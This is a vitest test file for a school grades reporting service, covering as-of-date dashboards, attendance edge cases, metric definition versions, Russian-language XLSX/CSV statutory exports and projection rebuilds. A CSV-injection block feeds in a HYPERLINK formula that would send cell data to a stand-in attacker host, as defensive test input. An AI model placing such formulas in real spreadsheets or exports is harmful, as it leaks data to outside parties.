import { randomUUID } from "node:crypto";
import { Readable } from "node:stream";
import { rebuildProjection } from "@otmetka/projections";
import { TermKind } from "@otmetka/proto/curriculum/events/v1/events";
import { AbsenceReason } from "@otmetka/proto/grades/events/v1/events";
import {
  AsOfMode,
  ExportFormat,
  Level,
  ResultBasis,
} from "@otmetka/proto/reporting/v1/reporting_service";
import { useTestEnvironment } from "@otmetka/testing";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_METRICS_CONFIG, type MetricsConfig } from "./domain/metrics/definitions.js";
import {
  performanceReport,
  type ReportRequest,
  reportColumns,
} from "./exports/performance-report.js";
import { reportCsv, reportXlsx } from "./exports/render.js";
import { reportingProjection } from "./projections/projection.js";
import { type DashboardQuery, dashboard } from "./queries/dashboards.js";
import { diary } from "./queries/diary.js";
import type { FeedEvent } from "./test-support/feed.js";
import { feedEvent } from "./test-support/feed.js";
import { startApi } from "./test-support/grpc.js";
import { type Harness, startHarness } from "./test-support/harness.js";
import { mathsLessonEvent, mathsTermJournal, mathsTermQuery } from "./test-support/maths-term.js";
import { dashboardQuery, exportRequest } from "./test-support/requests.js";
import { type SchoolFixture, schoolFixture } from "./test-support/school.js";
import { readCsv, readXlsx } from "./test-support/sheet.js";
import { tableRows } from "./test-support/table-rows.js";

/*
 * Issue 11 on the fixture of test-support/school.ts, every event of it recorded on
 * 2026-10-26 (D); then on 10-27 a new mark for p4 (a 5 on the 09-08 lesson: 3 -> 4 on the
 * current basis) and on 10-28 a correction of p5's 2 (09-07 lesson) to a 4. Maths, class
 * group, term 1, current basis, results before: p1 5, p2 5 (4.5), p3 4, p4 3, p5 2, p8 н/а.
 */
const env = useTestEnvironment({ label: "reporting_history" });
let h: Harness;
let f: SchoolFixture;
const D = "2026-10-26";
const at = (day: string) => new Date(`${day}T08:00:00Z`);
const recordedOn = (e: FeedEvent, day: string): FeedEvent => ({
  ...e,
  event: { ...e.event, recordedAt: at(day) },
});
// Version 2: the school's weight table changed, every oral answer now weighs 1.
const config: MetricsConfig = {
  ...DEFAULT_METRICS_CONFIG,
  definitionSets: [{ version: 2, weights: { ORAL: 1 }, note: "ORAL = 1" }],
};

const dash = (over: Partial<DashboardQuery>) =>
  dashboard(h.db, config, mathsTermQuery(f, { asOf: D, basis: "CURRENT", ...over }));
/** The statutory report of 2026/2027 as of D; `over` names the scope and the period. */
const statutory = (
  over: Pick<ReportRequest, "level" | "scopeId" | "term"> & Partial<ReportRequest>,
) => performanceReport(h.db, config, { startYear: 2026, asOf: D, ...over });
const results = async (over: Partial<DashboardQuery>) =>
  (await dash(over)).performance?.distribution.results;
const average = async (over: Partial<DashboardQuery>) => {
  const a = (await dash(over)).performance?.average;
  return [a?.numerator, a?.denominator];
};

beforeAll(async () => {
  h = await startHarness(env);
  f = schoolFixture();
  await h.publish([
    ...f.events.map((e) => recordedOn(e, D)),
    ...lessonEvents("LessonScheduled", [L5, L6, L7, L8], D),
  ]);
  await h.caughtUp();
  const where = { schoolId: f.schoolId, municipalityId: f.municipalityId };
  await h.publish([
    feedEvent(
      "grades",
      f.journalMath.journalId,
      "MarkRecorded",
      {
        ...where,
        journal: f.journalMath,
        markId: randomUUID(),
        lessonId: f.L.l2,
        lessonDate: "2026-09-08",
        term: 1,
        studentId: f.p.p4,
        value: 5,
        workType: "ORAL",
        weight: 1,
        authorId: "t",
      },
      at("2026-10-27"),
    ),
  ]);
  await h.caughtUp();
  // Attendance of lessons cancelled (L5) or unscheduled (L7) the day after, and of one (L6)
  // cancelled before its attendance arrives (published later, recorded earlier: a rebuild
  // meets them the other way round).
  await h.publish([
    attendance(L5, f.p.p3, AbsenceReason.ABSENCE_REASON_UNEXCUSED, at("2026-10-27")),
    attendance(L7, f.p.p5, AbsenceReason.ABSENCE_REASON_ILLNESS, at("2026-10-27")),
    attendance(L8, f.p.p2, AbsenceReason.ABSENCE_REASON_UNEXCUSED, at("2026-10-27")),
  ]);
  await h.caughtUp();
  await h.publish([
    recordedOn(f.later.correctP5(), "2026-10-28"),
    ...lessonEvents("LessonCancelled", [L5, L6], "2026-10-28"),
    ...lessonEvents("LessonUnscheduled", [L7], "2026-10-28"),
    ...lessonEvents("LessonMoved", [L8], "2026-10-28"),
  ]);
  await h.caughtUp();
  await h.publish([
    attendance(
      L6,
      f.p.p4,
      AbsenceReason.ABSENCE_REASON_UNEXCUSED,
      new Date("2026-10-28T07:00:00Z"),
    ),
    // Excusing a moot absence (history from before grades refused it) counts nothing either.
    feedEvent(
      "grades",
      f.journalMath.journalId,
      "AbsenceExcused",
      {
        schoolId: f.schoolId,
        municipalityId: f.municipalityId,
        journal: f.journalMath,
        lessonId: L6.lessonId,
        studentId: f.p.p4,
        reason: "note",
        authorId: "t",
      },
      at("2026-10-28"),
    ),
  ]);
  await h.caughtUp();
}, 60_000);

// Maths lessons of term 1 beside the fixture's, each the only lesson of its day.
const L5 = { lessonId: randomUUID(), date: "2026-10-20" };
const L6 = { lessonId: randomUUID(), date: "2026-10-21" };
const L7 = { lessonId: randomUUID(), date: "2026-10-22" };
// Moved to term 2 after its attendance was taken.
const L8 = { lessonId: randomUUID(), date: "2026-10-23", toDate: "2026-11-06" };

function lessonEvents(
  name: "LessonScheduled" | "LessonCancelled" | "LessonUnscheduled" | "LessonMoved",
  lessons: { lessonId: string; date: string; toDate?: string }[],
  day: string,
): FeedEvent[] {
  return lessons.map((l) =>
    mathsLessonEvent(
      f,
      name,
      { ...l, period: 1, term: 1, reason: "quarantine", toPeriod: 1, toTerm: 2 },
      at(day),
    ),
  );
}

function attendance(
  l: { lessonId: string; date: string },
  studentId: string,
  reason: AbsenceReason,
  time: Date,
): FeedEvent {
  return feedEvent(
    "grades",
    f.journalMath.journalId,
    "AttendanceRecorded",
    {
      schoolId: f.schoolId,
      municipalityId: f.municipalityId,
      journal: f.journalMath,
      lessonId: l.lessonId,
      lessonDate: l.date,
      term: 1,
      entries: [{ studentId, reason }],
      authorId: "t",
    },
    time,
  );
}

afterAll(async () => {
  await h?.close();
});

const before = { 1: 0, 2: 1, 3: 1, 4: 1, 5: 2, PASS: 0, FAIL: 0, NOT_ATTESTED: 1 };
const after27 = { ...before, 3: 0, 4: 2 };
const now = { ...before, 2: 0, 3: 0, 4: 3 };

describe("as of D", () => {
  it("recorded: a mark corrected after D leaves D's figures as they were", async () => {
    expect(await results({ mode: "RECORDED" })).toEqual(before);
    expect(await average({ mode: "RECORDED" })).toEqual([35, 9]);
    expect(await results({ mode: "RECORDED", asOf: "2026-10-27" })).toEqual(after27);
    expect(await average({ mode: "RECORDED", asOf: "2026-10-27" })).toEqual([40, 10]);
    // 10-28 is the open day: the live rows.
    expect(await results({ mode: "RECORDED", asOf: "2026-10-28" })).toEqual(now);
    expect(await results({})).toEqual(now);
    // Before anything was recorded: nothing.
    expect(
      (await dash({ mode: "RECORDED", asOf: "2026-08-01" })).performance?.pupilCount,
    ).toMatchObject({
      numerator: 0,
    });
  });

  it("effective: the same D shows the later correction and mark (their lessons were before D)", async () => {
    expect(await results({ mode: "EFFECTIVE" })).toEqual(now);
    expect(await average({ mode: "EFFECTIVE" })).toEqual([42, 10]);
    // Only the 09-07 lesson's marks: p5's corrected 4 in, p8's н/а (09-08) out.
    expect(await results({ mode: "EFFECTIVE", asOf: "2026-09-07" })).toEqual({
      ...before,
      2: 0,
      3: 1,
      4: 3,
      5: 1,
      NOT_ATTESTED: 0,
    });
    expect(await average({ mode: "EFFECTIVE", asOf: "2026-09-07" })).toEqual([27, 7]);
  });

  it("effective as of a day after everything equals the live aggregates at every level and basis", async () => {
    const scopes: Partial<DashboardQuery>[] = [
      {},
      { level: "SCHOOL", scopeId: f.schoolId },
      { level: "SCHOOL", scopeId: f.schoolId, subjectId: "" },
      { level: "MUNICIPALITY", scopeId: f.municipalityId, period: { kind: "YEAR" }, subjectId: "" },
      { level: "REGION", scopeId: "region", period: { kind: "YEAR" }, subjectId: f.pe },
    ];
    for (const s of scopes) {
      for (const basis of ["CURRENT", "PERIOD_MARKS"] as const) {
        const live = await dash({ ...s, basis, asOf: "2027-08-31" });
        const eff = await dash({ ...s, basis, asOf: "2027-08-31", mode: "EFFECTIVE" });
        expect({ ...eff, mode: null, query: null }).toEqual({ ...live, query: null });
      }
    }
  });

  it("a figure says which mode served it; bad input is a typed error", async () => {
    expect((await dash({ mode: "RECORDED" })).mode).toBe("RECORDED");
    await expect(dash({ mode: "RECORDED", asOf: "2026-13-01" })).rejects.toMatchObject({
      kind: "invalid_argument",
    });
  });
});

describe("attendance of a cancelled or unscheduled lesson", () => {
  const all = { subjectId: "" };
  const attendanceOf = async (over: Partial<DashboardQuery>) => {
    const a = (await dash({ ...all, ...over })).attendance;
    return {
      rate: [a.attendanceRate.numerator, a.attendanceRate.denominator],
      missed: a.missedLessons,
      days: a.missedDays,
    };
  };
  // The fixture's: three lessons × 8 pupils, p1 ill all day 09-07.
  const fixtureOnly = {
    rate: [22, 24],
    missed: expect.objectContaining({ total: 2, illness: 2, unexcused: 0, excused: 0 }),
    days: expect.objectContaining({ total: 1, illness: 1, unexcused: 0, excused: 0 }),
  };

  it("stops counting once the lesson is cancelled or unscheduled, at every level", async () => {
    for (const scope of [{}, { level: "SCHOOL" as const, scopeId: f.schoolId }]) {
      expect(await attendanceOf(scope)).toEqual(fixtureOnly);
      expect(await attendanceOf({ ...scope, subjectId: f.math })).toMatchObject({ rate: [15, 16] });
    }
  });

  it("never counts when the cancellation came first, and excusing it changes nothing", async () => {
    expect(await attendanceOf({ period: { kind: "RANGE", from: L6.date, to: L6.date } })).toEqual({
      rate: [0, 0],
      missed: expect.objectContaining({ total: 0 }),
      days: expect.objectContaining({ total: 0 }),
    });
  });

  it("leaves the pupils' diaries", async () => {
    for (const [pupil, l] of [
      [f.p.p3, L5],
      [f.p.p4, L6],
      [f.p.p5, L7],
    ] as const) {
      const d = await diary(h.db, pupil, "2026-10-01", "2026-10-31");
      expect(d.absences, l.date).toEqual([]);
    }
    const d = await diary(h.db, f.p.p3, "2026-10-20", "2026-10-20");
    expect(d.lessons.map((l) => l.status)).toEqual(["CANCELLED"]);
    const v = await mathsTermJournal(h.db, f);
    expect(v.lessons.find((l) => l.lessonId === L5.lessonId)).toMatchObject({
      status: "CANCELLED",
      attendanceTaken: true,
    });
    expect(v.absences.map((a) => a.lessonId)).toEqual([f.L.l1, f.L.l1]); // p1 ill, p2 late
  });

  it("as of a day before the cancellation: recorded as it stood then, effective without it", async () => {
    // Recorded on 10-27: L5 (p3 unexcused), L7 (p5 ill) and L8 (p2 unexcused, not moved yet)
    // counted, each a full day missed, 6 pupils on the roll.
    expect(await attendanceOf({ mode: "RECORDED", asOf: "2026-10-27" })).toEqual({
      rate: [37, 42],
      missed: expect.objectContaining({ total: 5, illness: 3, unexcused: 2 }),
      days: expect.objectContaining({ total: 4, illness: 2, unexcused: 2 }),
    });
    expect(await attendanceOf({ mode: "RECORDED" })).toEqual(fixtureOnly);
    expect(await attendanceOf({ mode: "EFFECTIVE", asOf: "2026-10-27" })).toEqual(fixtureOnly);
    expect(await attendanceOf({ mode: "RECORDED", asOf: "2026-10-28" })).toEqual(fixtureOnly);
  });

  it("its attendance records are no entries of timeliness either, whichever came first", async () => {
    // L5, L6, L7 are the only lessons of 10-20..10-22; each had one attendance record.
    const entries = async (over: Partial<DashboardQuery>) => {
      const j = (
        await dash({ ...all, period: { kind: "RANGE", from: L5.date, to: L7.date }, ...over })
      ).journal;
      return [j.timeliness.numerator, j.timeliness.denominator, j.medianDelayDays.value];
    };
    expect(await entries({})).toEqual([0, 0, null]);
    expect(await entries({ level: "SCHOOL", scopeId: f.schoolId })).toEqual([0, 0, null]);
    // Recorded on 10-27: L5's (7 days late) and L7's (5 days) counted until the next day.
    expect(await entries({ mode: "RECORDED", asOf: "2026-10-27" })).toEqual([0, 2, 6]);
    expect(await entries({ mode: "RECORDED", asOf: "2026-10-28" })).toEqual([0, 0, null]);
    expect(await entries({ mode: "EFFECTIVE", asOf: "2026-10-27" })).toEqual([0, 0, null]);
  });
});

describe("attendance of a moved lesson", () => {
  it("moves with it: counted on its new date, gone from the old one", async () => {
    const on = async (day: string) =>
      (await dash({ subjectId: "", period: { kind: "RANGE", from: day, to: day }, asOf: day }))
        .attendance;
    expect((await on(L8.toDate)).attendanceRate).toMatchObject({ numerator: 5, denominator: 6 });
    expect((await on(L8.toDate)).missedDays).toMatchObject({ total: 1, unexcused: 1 });
    expect((await on(L8.date)).attendanceRate).toMatchObject({ numerator: 0, denominator: 0 });
    expect((await on(L8.date)).missedDays).toMatchObject({ total: 0 });
    const d = await diary(h.db, f.p.p2, "2026-11-01", "2026-11-30");
    expect(d.absences.map((a) => a.lessonId)).toEqual([L8.lessonId]);
  });
});

describe("definition versions", () => {
  it("a changed weight table is version 2, computed beside version 1", async () => {
    const v1 = (await dash({ mode: "EFFECTIVE" })).performance?.weightedAverage;
    const v2d = await dash({ mode: "EFFECTIVE", definitionVersion: 2 });
    const v2 = v2d.performance?.weightedAverage;
    // v1: p1 5 (w1) + 5 (w2), p3 4 (w2), the rest w1.
    expect(v1).toMatchObject({ numerator: 51, denominator: 12, definition: "weighted_average.v1" });
    expect(v2).toMatchObject({
      numerator: 42,
      denominator: 10,
      definition: "weighted_average.v1@v2",
    });
    expect(v2d.definitionVersion).toBe(2);
    expect(v2d.performance?.passRate.definition).toBe("pass_rate.v1+current@v2");
    // Version 1's past report is unchanged by the new version.
    expect(await average({ mode: "RECORDED" })).toEqual([35, 9]);
    const old = (await dash({ mode: "RECORDED" })).performance?.weightedAverage;
    expect(old).toMatchObject({
      numerator: 44,
      denominator: 11,
      definition: "weighted_average.v1",
    });
  });

  it("refuses an unknown version and recorded mode under another version", async () => {
    await expect(dash({ definitionVersion: 7 })).rejects.toThrow(
      /definitionVersion.*unknown version 7/,
    );
    await expect(dash({ mode: "RECORDED", definitionVersion: 2 })).rejects.toThrow(
      /definitionVersion/,
    );
  });
});

describe("statutory export", () => {
  it("the XLSX, opened with exceljs, holds the dashboard's figures, the version and the as-of date", async () => {
    const report = await statutory({
      level: "SCHOOL",
      scopeId: f.schoolId,
      term: 1,
      mode: "RECORDED",
      basis: "CURRENT",
    });
    const { find } = await readXlsx(await reportXlsx(report));
    expect(find("По состоянию на")[1]).toBe(D);
    expect(find("Версия определений")[1]).toBe(1);
    // The school by name, and by id for machines.
    expect(find("Школа")[1]).toBe(f.names.school);
    expect(find("Идентификатор школы")[1]).toBe(f.schoolId);
    // The fixture school's year is two half-years (TermSystemDefined's kind).
    expect(find("Период")[1]).toBe("1 полугодие");
    const header = find("Предмет");
    expect(header).toEqual(reportColumns("SCHOOL"));
    const at = (row: unknown[], column: string) => row[header.indexOf(column)];
    for (const [label, id, subjectId] of [
      [f.names.math, f.math, f.math],
      [f.names.pe, f.pe, f.pe],
      ["Итого", "", ""],
    ] as const) {
      const row = find(label);
      expect(at(row, "Идентификатор") ?? "").toBe(id);
      const d = await dash({ level: "SCHOOL", scopeId: f.schoolId, subjectId, mode: "RECORDED" });
      const p = d.performance;
      // All subjects count pupils (domain.md), a subject its pupils' results in it.
      const pupils = subjectId ? p?.pupilCount : d.allSubjects?.pupilCount;
      const pass = subjectId ? p?.passRate : d.allSubjects?.passRate;
      const quality = subjectId ? p?.qualityPerPupil : d.allSubjects?.qualityRate;
      expect(at(row, "Учащихся (N)")).toBe(pupils?.value);
      expect(at(row, "Успеваемость, %")).toBeCloseTo((pass?.value ?? 0) * 100, 1);
      const pct = (v: number | null | undefined) => (v == null ? null : Math.round(v * 1000) / 10);
      expect(at(row, "Качество знаний, %") ?? null).toBe(pct(quality?.value));
      expect(at(row, "СОУ, %") ?? null).toBe(
        p?.degreeOfLearning.value == null ? null : Math.round(p.degreeOfLearning.value * 100) / 100,
      );
      expect(at(row, "«5»")).toBe(p?.distribution.results["5"]);
    }
    // Maths at the school on D: p1..p5 and p8 of 5А, and p7, moved to 5Б of the same school.
    expect(at(find(f.names.math), "Учащихся (N)")).toBe(7);
    // The total counts pupils once, not maths' 7 and PE's results added up.
    const totalPupils = at(find("Итого"), "Учащихся (N)");
    const bySubject =
      Number(at(find(f.names.math), "Учащихся (N)")) + Number(at(find(f.names.pe), "Учащихся (N)"));
    expect(totalPupils).toBeLessThan(bySubject);
    expect(report.definitions).toContain("pass_rate.all_subjects.v1+current");
    // Quality counted per mark (configuration): the report's quality is the dashboard's headline.
    const perMark = { ...config, qualityVariant: "PER_MARK" as const };
    const byMark = await readXlsx(
      await reportXlsx(
        await performanceReport(h.db, perMark, {
          level: "SCHOOL",
          scopeId: f.schoolId,
          startYear: 2026,
          term: 1,
          asOf: D,
          mode: "RECORDED",
          basis: "CURRENT",
        }),
      ),
    );
    for (const [label, subjectId] of [
      [f.names.math, f.math],
      ["Итого", ""],
    ] as const) {
      const q = (
        await dashboard(
          h.db,
          perMark,
          mathsTermQuery(f, {
            level: "SCHOOL",
            scopeId: f.schoolId,
            subjectId,
            asOf: D,
            basis: "CURRENT",
            mode: "RECORDED",
          }),
        )
      ).quality;
      expect(q?.definition).toBe("quality_rate.per_mark.v1");
      expect(byMark.find(label)[header.indexOf("Качество знаний, %")]).toBe(
        Math.round((q?.value ?? 0) * 1000) / 10,
      );
    }
  });

  it("CSV carries a BOM and Russian headings; the gRPC call answers bytes for a municipality", async () => {
    const csv = await reportCsv(
      await statutory({
        level: "SCHOOL",
        scopeId: f.schoolId,
        term: 1,
      }),
    );
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString("utf8")).toContain("Успеваемость, %");
    // Read back: the names beside the ids, in the heading and the rows.
    const csvSheet = await readCsv(csv);
    expect(csvSheet.find("Школа")[1]).toBe(f.names.school);
    expect(csvSheet.find("Идентификатор школы")[1]).toBe(f.schoolId);
    expect(csvSheet.find("Период")[1]).toBe("1 полугодие");
    expect(csvSheet.find("Предмет")).toEqual(reportColumns("SCHOOL"));
    expect(csvSheet.find(f.names.math)[1]).toBe(f.math);
    expect(csvSheet.find(f.names.pe)[1]).toBe(f.pe);
    const api = await startApi(h.db, config);
    try {
      const md = await api.as([`MUNICIPAL_OFFICER@municipality:${f.municipalityId}`], "m1");
      const r = await api.client.exportPerformanceReport(
        exportRequest({
          level: Level.LEVEL_MUNICIPALITY,
          scopeId: f.municipalityId,
          year: true,
          asOf: D,
          asOfMode: AsOfMode.AS_OF_MODE_EFFECTIVE,
          definitionVersion: 2,
          format: ExportFormat.EXPORT_FORMAT_XLSX,
        }),
        md,
      );
      expect(r.definitionVersion).toBe(2);
      expect(r.fileName).toMatch(/v2\.xlsx$/);
      const { find } = await readXlsx(r.content);
      expect(find("Муниципалитет")[1]).toBe(f.names.municipality);
      expect(find("Идентификатор муниципалитета")[1]).toBe(f.municipalityId);
      expect(find("Период")[1]).toBe("учебный год");
      expect(find("Школа")).toEqual(reportColumns("MUNICIPALITY"));
      expect(find(f.names.school)[1]).toBe(f.schoolId);
      expect(find("Итого")).toBeDefined();
      const dm = await api.client.getDashboards(
        {
          queries: [
            dashboardQuery({
              level: Level.LEVEL_CLASS_GROUP,
              scopeId: f.cg,
              subjectId: f.math,
              term: 1,
              asOf: D,
              basis: ResultBasis.RESULT_BASIS_CURRENT,
              asOfMode: AsOfMode.AS_OF_MODE_RECORDED,
            }),
          ],
        },
        md,
      );
      expect(dm.results[0]?.dashboard?.asOfMode).toBe(AsOfMode.AS_OF_MODE_RECORDED);
      expect(dm.results[0]?.dashboard?.performance?.average?.numerator).toBe(35);
      // Out of the officer's scope: refused, nothing exported.
      await expect(
        api.client.exportPerformanceReport(
          exportRequest({
            level: Level.LEVEL_MUNICIPALITY,
            scopeId: "another",
            year: true,
            asOf: D,
          }),
          md,
        ),
      ).rejects.toMatchObject({ code: 7 });
    } finally {
      await api.close();
    }
  });
  it("names the period by the school's term system: «2 четверть» at a school on quarters", async () => {
    const schoolId = randomUUID();
    const where = { schoolId, municipalityId: randomUUID() };
    const term = (number: number, firstDay: string, lastDay: string) => ({
      number,
      firstDay,
      lastDay,
    });
    await h.publish([
      feedEvent(
        "identity",
        schoolId,
        "SchoolRegistered",
        { ...where, name: "МОУ «Лицей № 1»", timeZone: "Asia/Yekaterinburg" },
        at(D),
      ),
      feedEvent(
        "curriculum",
        `terms-${schoolId}`,
        "TermSystemDefined",
        {
          ...where,
          academicYear: { startYear: 2026 },
          gradeLevels: [5, 6],
          kind: TermKind.TERM_KIND_QUARTER,
          terms: [
            term(1, "2026-09-01", "2026-10-26"),
            term(2, "2026-11-05", "2026-12-28"),
            term(3, "2027-01-09", "2027-03-22"),
            term(4, "2027-03-31", "2027-05-31"),
          ],
        },
        at(D),
      ),
    ]);
    await h.caughtUp();
    const report = await statutory({
      level: "SCHOOL",
      scopeId: schoolId,
      term: 2,
    });
    for (const read of [
      await readXlsx(await reportXlsx(report)),
      await readCsv(await reportCsv(report)),
    ]) {
      expect(read.find("Школа")[1]).toBe("МОУ «Лицей № 1»");
      expect(read.find("Период")[1]).toBe("2 четверть");
    }
  });
});

describe("statutory export of caller-controlled text (CSV injection)", () => {
  // A ministry officer may name any municipality: the scope id lands in a text cell as given.
  const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
  const hyperlink = (start: string) => `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
  // A municipality is exported only once it or a school of it is replicated: one school each,
  // neither with a name (their events were not seen: the id alone shows).
  const schoolOf = new Map(
    FORMULA_STARTS.flatMap((start) => [hyperlink(start), `${start}1+2`]).map((m) => [
      m,
      randomUUID(),
    ]),
  );
  beforeAll(async () => {
    await h.publish(
      [...schoolOf].map(([municipalityId, schoolId]) =>
        feedEvent(
          "identity",
          schoolId,
          "SchoolRegistered",
          { schoolId, municipalityId, timeZone: "Asia/Yekaterinburg" },
          at(D),
        ),
      ),
    );
    await h.caughtUp();
  });
  const exportAs = async (
    api: Awaited<ReturnType<typeof startApi>>,
    scopeId: string,
    format: ExportFormat,
  ) =>
    api.client.exportPerformanceReport(
      exportRequest({ level: Level.LEVEL_MUNICIPALITY, scopeId, year: true, asOf: D, format }),
      await api.as(["MINISTRY_OFFICER@region:74"], "ministry"),
    );
  /** Cell `n` of the row whose first cell is the label, as the same library reads it back. */
  const cellOf = (ws: ExcelJS.Worksheet, label: string, n = 2) => {
    for (let r = 1; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      if (row.getCell(1).value === label) return row.getCell(n);
    }
    throw new Error(`no row ${label}`);
  };
  const pupilsColumn = reportColumns("MUNICIPALITY").indexOf("Учащихся (N)") + 1;

  it("a CSV text cell that would start a formula gets a leading apostrophe; figures stay numbers", async () => {
    const api = await startApi(h.db, config);
    try {
      for (const start of FORMULA_STARTS) {
        const scopeId = hyperlink(start);
        const r = await exportAs(api, scopeId, ExportFormat.EXPORT_FORMAT_CSV);
        const content = Buffer.from(r.content);
        expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
        const wb = new ExcelJS.Workbook();
        const ws = await wb.csv.read(Readable.from([content.subarray(3)]), {
          map: (v: unknown) => v,
        });
        expect(cellOf(ws, "Идентификатор муниципалитета").value).toBe(`'${scopeId}`);
        // No MunicipalityRegistered / no school name seen: empty names beside the ids.
        expect(cellOf(ws, "Муниципалитет").value ?? "").toBe("");
        const school = ws
          .getRows(1, ws.rowCount)
          ?.find((row) => row.getCell(2).value === schoolOf.get(scopeId));
        expect(school?.getCell(1).value ?? "").toBe("");
        // The total row's pupil count is a figure: written as a number, no apostrophe.
        expect(cellOf(ws, "Итого", pupilsColumn).value).toBe("0");
      }
    } finally {
      await api.close();
    }
  });

  it("the XLSX writes such text as a string cell, never a formula", async () => {
    const api = await startApi(h.db, config);
    try {
      for (const start of FORMULA_STARTS) {
        const scopeId = `${start}1+2`;
        const r = await exportAs(api, scopeId, ExportFormat.EXPORT_FORMAT_XLSX);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(Buffer.from(r.content) as unknown as ExcelJS.Buffer);
        const ws = wb.worksheets[0];
        if (!ws) throw new Error("no worksheet");
        const cell = cellOf(ws, "Идентификатор муниципалитета");
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // XML reads a carriage return in text back as a line feed (exceljs writes it raw).
        expect(cell.value).toBe(scopeId.replace("\r", "\n"));
      }
    } finally {
      await api.close();
    }
  });
});

describe("statutory export names", () => {
  it("follow MunicipalityRenamed and SchoolRenamed; a school not named yet shows its id only", async () => {
    const municipalityId = randomUUID();
    const [named, unnamed] = [randomUUID(), randomUUID()];
    const identity = (stream: string, name: string, v: Record<string, unknown>) =>
      feedEvent("identity", stream, name, { municipalityId, ...v }, at(D));
    await h.publish([
      identity(municipalityId, "MunicipalityRegistered", { name: "Озёрский городской округ" }),
      identity(named, "SchoolRegistered", { schoolId: named, name: "Лицей № 1" }),
      identity(unnamed, "SchoolRegistered", { schoolId: unnamed }),
      identity(municipalityId, "MunicipalityRenamed", { name: "Озёрский округ" }),
      identity(named, "SchoolRenamed", { schoolId: named, name: "Лицей № 2" }),
    ]);
    await h.caughtUp();
    const report = await statutory({
      level: "MUNICIPALITY",
      scopeId: municipalityId,
      term: 0,
    });
    expect(report.scopeName).toBe("Озёрский округ");
    expect(report.rows.map((r) => [r.name, r.unit])).toEqual([
      ["Лицей № 2", named],
      ["", unnamed],
    ]);
  });
});

describe("rebuild", () => {
  it("the rebuilt read model (from sequence 1, blue/green) equals the live one, snapshots included", async () => {
    await h.runner.stop();
    const tables = (
      await h.pool.query<{ t: string }>(
        `SELECT table_name AS t FROM information_schema.tables
          WHERE table_schema = 'proj_reporting' AND table_name NOT LIKE '\\_%' ORDER BY 1`,
      )
    ).rows.map((r) => r.t);
    expect(tables).toContain("perf_h");
    const progress: number[] = [];
    const r = await rebuildProjection({
      projection: reportingProjection,
      pool: h.pool,
      nc: h.nc,
      names: h.names,
      keepOld: true,
      onProgress: (p) => progress.push(p.read),
    });
    const retired = `proj_reporting__v${reportingProjection.version}_retired`;
    expect(r.retired).toBe(retired);
    expect(r.events).toBeGreaterThan(50);
    const rows = (schema: string, table: string) => tableRows(h.pool, schema, table);
    for (const t of tables) {
      const live = await rows(retired, t);
      if (["perf", "perf_h", "daily_h", "marks"].includes(t))
        expect(live.length).toBeGreaterThan(0);
      expect({ t, rows: await rows("proj_reporting", t) }).toEqual({ t, rows: live });
    }
    // The past report reads the same from the rebuilt snapshots.
    expect(await results({ mode: "RECORDED" })).toEqual(before);
    expect(await results({ mode: "RECORDED", asOf: "2026-10-27" })).toEqual(after27);
    await h.pool.query(`DROP SCHEMA "${retired}" CASCADE`);
  });
});
